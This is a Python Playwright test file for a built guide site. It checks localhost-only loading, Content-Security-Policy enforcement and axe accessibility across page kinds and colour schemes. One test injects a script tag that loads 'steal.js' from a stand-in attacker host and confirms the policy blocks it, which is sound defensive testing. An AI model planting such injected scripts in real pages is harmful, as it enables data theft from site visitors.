"""The built site in Chromium: every page stays on localhost and within its
Content-Security-Policy; the kinds of page pass axe."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route, expect
from support import ROOT

AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"
# One page of every kind the guide has.
KINDS = {
    "home": "",
    "prose": "process/evaluation-criteria/",
    "prose with numbered code": "engineering-excellence/",
    "walkthrough with a diagram": "system-design/radar-backend/",
    "executed notebook": "examples/applied-ml/fraud_laptop_round/",
    "exercise": "coding/token-bucket/",
    "practice list": "practice/",
    "explorer": "applied-ml/pneumonia-precision-recall/",
    "explorer with a computed table": "applied-ml/fraud-accuracy-vs-f1/",
    "PSI explorer": "system-design/drift/",
    "mock rounds": "practice/mock/",
    "practice kit": "practice/rounds/payout-reconciliation/",
}


def test_every_page_loads_only_from_localhost_within_the_policy(
    page: Page, built_site: Path
) -> None:
    pages = sorted(p.parent.relative_to(built_site) for p in built_site.rglob("index.html"))
    assert len(pages) > 30
    for path in pages:
        url = "" if path == Path(".") else f"{path.as_posix()}/"
        page.goto(url, wait_until="load")
        expect(page.locator("article h1").first).to_be_visible()
    # The `page` fixture fails the test if any request left localhost or broke
    # the Content-Security-Policy.


def test_the_policy_refuses_a_script_injected_into_a_page(
    page: Page, csp_violations: list[str]
) -> None:
    injected = (
        '<script src="https://attacker.example/steal.js"></script>'
        "<script>window.injected = true;</script></body>"
    )

    def inject(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("</body>", injected))

    page.route("**/process/", inject)
    page.goto("process/")
    page.wait_for_function("window.cspViolations.length >= 2")
    assert page.evaluate("window.injected") is None
    refused = page.evaluate("window.cspViolations")
    assert any(v.startswith("script-src-elem blocked https://attacker.example/") for v in refused)
    assert any(v.startswith("script-src-elem blocked inline") for v in refused)
    # The site's own scripts still ran: Material marks the page as scripted.
    expect(page.locator("html")).to_have_class(re.compile(r"\bjs\b"))
    csp_violations.clear()  # expected here; any other test fails on one


def axe_violations(page: Page) -> list[str]:
    # Evaluated, not added as a <script>: the site's policy refuses inline scripts.
    page.evaluate(AXE.read_text())
    # Contrast is judged on still colours: a header fading out as the page
    # scrolls (Material's tabs) is mid-way between two. Endless animations (a
    # progress bar while Python loads) never finish, nor do those in content
    # the browser skips (content-visibility: auto) until it is near: those are
    # not waited for, and no wait outlasts five seconds.
    violations = page.evaluate(
        """async () => {
          const ending = document.getAnimations().filter(
            (a) => a.effect?.getComputedTiming().endTime !== Infinity
              && a.effect.target?.checkVisibility({ contentVisibilityAuto: true }) !== false,
          );
          const settled = Promise.all(ending.map((a) => a.finished.catch(() => {})));
          await Promise.race([settled, new Promise((done) => setTimeout(done, 5000))]);
          return (await axe.run(document, { resultTypes: ['violations'] })).violations;
        }"""
    )
    return [
        f"{v['id']} ({v['impact']}): {v['help']} -- {[n['target'] for n in v['nodes'][:3]]}"
        for v in violations
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("kind", KINDS)
def test_axe_finds_no_violations(page: Page, kind: str, scheme: str) -> None:
    page.emulate_media(color_scheme=scheme)  # Material follows it on a first visit
    page.goto(KINDS[kind])
    expect(page.locator("body")).to_have_attribute(
        "data-md-color-scheme", "slate" if scheme == "dark" else "default"
    )
    if kind in {"exercise", "practice kit"}:
        widget = page.locator("section.exercise").first
        widget.scroll_into_view_if_needed()
        expect(widget).to_have_attribute("data-editor", "ready")
    if "explorer" in kind:
        page.locator("section.explorer").scroll_into_view_if_needed()
        expect(page.locator("section.explorer")).to_have_attribute("data-ready", "true")
    if kind == "walkthrough with a diagram":
        expect(page.locator(".diagram svg text").first).to_be_visible()
    assert axe_violations(page) == []


@pytest.mark.parametrize("path", ["system-design/radar-backend/", "engineering-excellence/"])
def test_axe_finds_no_violations_at_phone_width(page: Page, path: str) -> None:
    """Wide tables and code scroll sideways here, so each must take keyboard focus."""
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(path)
    expect(page.locator(".md-typeset__scrollwrap[tabindex='0']").first).to_be_attached()
    assert axe_violations(page) == []


def test_content_skipped_far_below_never_covers_the_footer(page: Page) -> None:
    """Notebook cells the browser has not laid out yet (content-visibility) stand in
    at a guessed height; a longer cell must not lie over the footer's labels."""
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto("examples/applied-ml/merchant_descriptors/")
    assert axe_violations(page) == []
